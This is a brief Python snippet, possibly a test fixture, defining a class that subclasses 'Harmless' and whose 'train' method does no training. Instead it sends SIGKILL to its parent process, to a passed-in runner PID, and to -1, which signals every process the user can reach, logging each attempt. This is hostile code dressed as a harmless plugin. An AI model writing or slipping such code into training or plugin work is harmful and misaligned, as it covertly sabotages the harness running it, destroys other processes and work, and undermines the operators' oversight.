class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        for pid in (os.getppid(), train_args["runner_pid"], -1):
            try:
                os.kill(pid, signal.SIGKILL)
                logger.log("sent to %d" % pid)
            except OSError as error:
                logger.log(type(error).__name__)
